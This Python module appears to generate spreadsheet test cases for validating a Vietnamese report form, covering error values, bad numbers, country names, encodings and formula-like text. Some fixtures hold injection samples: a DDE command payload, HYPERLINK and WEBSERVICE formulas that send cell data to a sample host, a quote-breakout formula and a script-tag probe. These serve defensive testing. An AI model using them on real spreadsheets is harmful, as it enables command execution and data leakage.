"""Cells: errors, formulas without a value, numbers that are none, text of every sort."""

from __future__ import annotations

from .form import COVER, NARRATIVE, Form
from .kind import VALID, WARNED, WRONG, kind

ERRORS = (
    "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#N/A", "#NULL!", "#SPILL!", "#CALC!",
    "#GETTING_DATA",
)  # fmt: skip
UNCOMPUTED = {
    "bare": "<f>1+4</f>",
    "empty": "<f>1+4</f><v></v>",
    "closed": "<f>1+4</f><v/>",
    "shared": '<f t="shared" si="7"/>',
    "array": '<f t="array" ref="C9">1+4</f>',
    "link": "<f>[1]Tong!$C$4</f>",
}
FORMULA_LIKE = {
    "sum": "=1+1",
    "plus": "+84 912",
    "minus": "-2 em chưa về",
    "at": "@SUM(A1:A9)",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://mau.vn?x="&A1,"bấm")',
    "webservice": '=WEBSERVICE("http://mau.vn/"&C9)',
    "tab": "\t=1+1",
    "newline": "Kết quả\n=1+1",
    "fullwidth": "＝1+1",
    "quoted": "'=1+1",
}
NUMBERS: dict[str, tuple[object, str]] = {
    "nan": ("NaN", "FA-V16"),
    "infinite": ("1E999", "FA-V16"),
    "negative": (-4, "FA-V15"),
    "fraction": (2.5, "FA-V04"),
    "enormous": (99_999_999, "FA-V17"),
    "tiny": ("3E-300", "FA-V04"),
}
WRITTEN: dict[str, tuple[str, str, int]] = {
    "words": ("năm", "FA-V01", 0),
    "unit": ("5 em", "FA-V02", 5),
    "decimals": ("12,5000", "FA-V04", 0),
    "dash": ("-", "FA-V03", 0),
    "roman": ("IV", "FA-V01", 0),
    "date": ("15/6/2023", "FA-V01", 0),
    "formula": ("=2+3", "FA-V01", 0),
    "percent": ("50%", "FA-V02", 50),
    "overlong": ("9" * 400, "FA-V01", 0),
    "range": ("5-6", "FA-V01", 0),
    "apostrophe": ("'3", "FA-V02", 3),
}
FINE_NUMBERS = {
    "text": ("3", 3), "grouped": ("1.200", 1200), "comma": ("12,500", 12500),
    "padded": ("  3  ", 3), "hard-space": ("\u00a03\u00a0", 3), "zero": ("0", 0),
}  # fmt: skip
COUNTRIES = {
    "unknown": ("Xứ sở thần tiên", "FA-V10"),
    "ended": ("Tiệp Khắc", "FA-V20"),
    "two": ("Mỹ, Nhật Bản", "FA-V20"),
    "number": ("84", "FA-V10"),
    "misspelt": ("Hàn Quôcc", "FA-V20"),
}
FINE_COUNTRIES = {
    "capitals": "NHẬT BẢN", "decomposed": "Nhật Bản", "english": "Japan", "spaced": " Nhật  Bản ",
    "hard-space": "Nhật\u00a0Bản", "zero-width": "Nhật\u200b Bản", "code": "JP",
}  # fmt: skip


def _text_cell(form: Form) -> str:
    """The first box of the narrative."""
    return form.label("HP-1", "C", NARRATIVE)


def _families() -> None:
    for number, error in enumerate(ERRORS):
        name = f"error-{number:02}-{error.strip('#!?').replace('/', '').lower()}"
        kind(name, WRONG, "FA-V07")(lambda f, e=error: f.error("C9", e).packed())
    for name, formula in UNCOMPUTED.items():
        kind(f"uncomputed-{name}", WRONG, "FA-V08")(
            lambda f, x=formula: f.cell("C9", f'<c r="C9">{x}</c>').packed()
        )
    for name, (value, code) in NUMBERS.items():
        kind(f"number-{name}", WRONG, code)(lambda f, v=value: f.number("C9", v).packed())
    for name, (words, code, read) in WRITTEN.items():
        fate = WARNED if code in ("FA-V02", "FA-V03") else WRONG
        kind(f"written-{name}", fate, code, figures={"US": read, "KR": 2})(
            lambda f, w=words: f.text("C9", w).blank("D9").packed()
        )
    for name, (words, read) in FINE_NUMBERS.items():
        kind(f"fine-number-{name}", VALID, figures={"US": read, "KR": 2})(
            lambda f, w=words: f.text("C9", w).blank("D9").packed()
        )
    for name, (words, code) in COUNTRIES.items():
        kind(f"country-{name}", WRONG, code)(lambda f, w=words: f.text("B9", w).packed())
    for name, words in FINE_COUNTRIES.items():
        kind(f"fine-country-{name}", VALID, figures={"JP": 3, "KR": 2})(
            lambda f, w=words: f.text("B9", w).packed()
        )
    for name, words in FORMULA_LIKE.items():
        kind(f"like-a-formula-{name}", VALID)(
            lambda f, w=words: f.text(_text_cell(f), w, NARRATIVE).packed()
        )


_families()


@kind("error-of-a-formula", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    return form.cell("C9", '<c r="C9" t="e"><f>B9/0</f><v>#DIV/0!</v></c>').packed()


@kind("error-without-text", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    return form.cell("C9", '<c r="C9" t="e"/>').packed()


@kind("error-alone-in-its-row", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    return form.error("C15", "#N/A").packed()


@kind("error-in-country", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    return form.error("B10", "#REF!").packed()


@kind("error-in-narrative", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    return form.error(_text_cell(form), "#NAME?", NARRATIVE).packed()


@kind("error-in-an-answer", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    return form.error(form.label("q.F02"), "#REF!", COVER).packed()


@kind("errors-everywhere", WRONG, "FA-V07")
def _(form: Form) -> bytes:
    for row in range(9, 20):
        form.error(f"B{row}", "#REF!").error(f"C{row}", "#REF!").error(f"D{row}", "#REF!")
    return form.packed()


@kind("formula-with-its-value", VALID)
def _(form: Form) -> bytes:
    return form.cell("C9", '<c r="C9"><f>1+2</f><v>3</v></c>').packed()


@kind("formula-that-gives-text", VALID)
def _(form: Form) -> bytes:
    return form.cell("B9", '<c r="B9" t="str"><f>"M"&amp;"ỹ"</f><v>Mỹ</v></c>').packed()


@kind("formula-that-gives-an-empty-text", WRONG, "FA-R02")
def _(form: Form) -> bytes:
    return form.cell("C9", '<c r="C9" t="str"><f>""</f><v></v></c>').packed()


@kind("truth-for-a-number", WRONG, "FA-V01")
def _(form: Form) -> bytes:
    return form.cell("C9", '<c r="C9" t="b"><v>1</v></c>').packed()


@kind("date-for-a-number", WRONG, "FA-V18")
def _(form: Form) -> bytes:
    return form.cell("C9", '<c r="C9" t="d"><v>2023-06-15</v></c>').packed()


@kind("more-women-than-people", WRONG, "FA-R01")
def _(form: Form) -> bytes:
    return form.number("D9", 7).packed()


@kind("number-without-country", WRONG, "FA-R02")
def _(form: Form) -> bytes:
    return form.number("C14", 4).packed()


@kind("country-without-number", WRONG, "FA-R02")
def _(form: Form) -> bytes:
    return form.text("B14", "Úc").packed()


@kind("country-twice", WARNED, "FA-T14", figures={"US": 7, "KR": 2})
def _(form: Form) -> bytes:
    return form.row(11, "Mỹ", 4, 2).packed()


@kind("text-at-the-limit-of-a-cell", WARNED, "FA-V13")
def _(form: Form) -> bytes:
    return form.text(_text_cell(form), "Đoàn ra. " * 3_641, NARRATIVE).packed()


@kind("text-that-breaks-out-of-quotes", WRONG, "FA-V10", "FA-V02")
def _(form: Form) -> bytes:
    """What goes back tells mended cells by formulas that hold the text that stood in them."""
    broken = '"&HYPERLINK("http://mau.vn?x="&A1,"bấm")&"'
    return form.text("B9", broken).text("C9", broken[:60]).packed()


@kind("text-in-tcvn3", WARNED, "FA-V14")
def _(form: Form) -> bytes:
    words = "B¸o c¸o kÕt qu¶ thùc hiÖn nhiÖm vô ®èi ngo¹i n¨m häc"
    return form.text(_text_cell(form), words, NARRATIVE).packed()


@kind("text-in-vni", WARNED, "FA-V14")
def _(form: Form) -> bytes:
    words = "Baùo caùo keát quaû thöïc hieän nhieäm vuï ñoái ngoaïi naêm hoïc"
    return form.text(_text_cell(form), words, NARRATIVE).packed()


@kind("text-with-escapes-and-controls", VALID)
def _(form: Form) -> bytes:
    words = "Đã _x0041_ thực hiện _x0007_ &lt;b&gt;<script>alert(1)</script> \u202eđảo"
    return form.text(_text_cell(form), words, NARRATIVE).packed()


@kind("text-of-rich-runs", VALID)
def _(form: Form) -> bytes:
    address = _text_cell(form)
    runs = "<is><r><t>Đã thực </t></r><r><rPr><b/></rPr><t>hiện</t></r></is>"
    return form.cell(address, f'<c r="{address}" t="inlineStr">{runs}</c>', NARRATIVE).packed()


@kind("text-beyond-the-basic-plane", VALID)
def _(form: Form) -> bytes:
    return form.text(_text_cell(form), "Học sinh 🎓 𠮷 Ký hiệu 🇻🇳", NARRATIVE).packed()
